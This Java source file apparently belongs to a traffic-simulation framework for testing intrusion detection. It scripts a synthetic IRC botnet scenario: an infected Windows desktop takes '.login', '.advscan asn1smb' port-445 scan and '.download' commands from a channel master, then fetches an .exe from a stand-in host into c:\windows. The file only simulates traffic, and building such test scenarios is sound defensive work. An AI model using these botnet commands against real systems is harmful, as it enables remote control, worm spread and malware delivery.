package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Answer;
import wolfhound.scenarios.stage.Ask;
import wolfhound.scenarios.stage.Bodies;
import wolfhound.scenarios.stage.Irc;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Web;

/// A bot that takes its orders in a channel of a public chat network and carries them out at once.
final class IrcBot extends Guilty {
    IrcBot() {
        super(
                "irc-bot",
                "Mechbot",
                "A desktop idles on a public chat network until somebody tells it to scan",
                "The order and the deed seconds later convict; the chat network is innocent");
    }

    @Override
    public void stage(Stage stage) {
        Actor desktop = stage.workstation("desktop", Platform.WINDOWS);
        desktop.joins().isInfected(Behaviour.COMMAND, Behaviour.SCAN).pauses(2);
        String nick = "[USA|XP|" + stage.between(10_000, 99_999) + "]";
        String master = stage.word(6);
        String channel = "#" + stage.word(5);
        String network = "198.18." + stage.between(0, 255);

        Irc irc = Irc.to(desktop, "irc.public-chat.example", 6667, nick, stage.word(7));
        irc.joins(channel + " " + stage.word(6), "." + stage.oneOf("login", "version"));
        irc.pauses(8).isPinged().pauses(6);
        irc.hears(master, channel, ".login " + stage.word(8))
                .pauses(0.4)
                .tells(channel, "[MAIN]: Password accepted.");
        irc.pauses(4).hears(master, channel, ".advscan asn1smb 100 5 0 " + network + ".x -r");
        irc.pauses(0.5)
                .tells(
                        channel,
                        "[SCAN]: Random port scan started on "
                                + network
                                + ".x:445 with a delay of 5 seconds for 0 minutes using 100 threads.");
        scans(desktop, stage, network);
        irc.tells(channel, "[SCAN]: Exploiting IP: " + network + "." + stage.between(2, 250) + ".");

        String url = "http://files." + stage.word(6) + ".example/" + stage.word(4) + ".exe";
        irc.pauses(5)
                .hears(
                        master,
                        channel,
                        ".download " + url + " c:\\windows\\" + stage.word(5) + ".exe 1")
                .pauses(0.4);
        String domain = url.split("/")[2];
        Web.to(desktop, domain)
                .asks(
                        Ask.get(url.substring(url.lastIndexOf('/')))
                                .with("User-Agent: Mozilla/4.0 (compatible)", "Host"),
                        Answer.ok("application/octet-stream", new Bodies(stage).program(14_000)))
                .closes();
        irc.tells(channel, "[DOWNLOAD]: Downloaded 13.6 KB to c:\\windows\\.").pauses(3).isPinged();
    }

    private static void scans(Actor bot, Stage stage, String network) {
        int targets = stage.between(60, 120);
        for (int i = 0; i < targets; i++) {
            bot.knocksInVain(stage.strangerAt(network + "." + (i + 1)), 445).pauses(0.06);
        }
    }
}
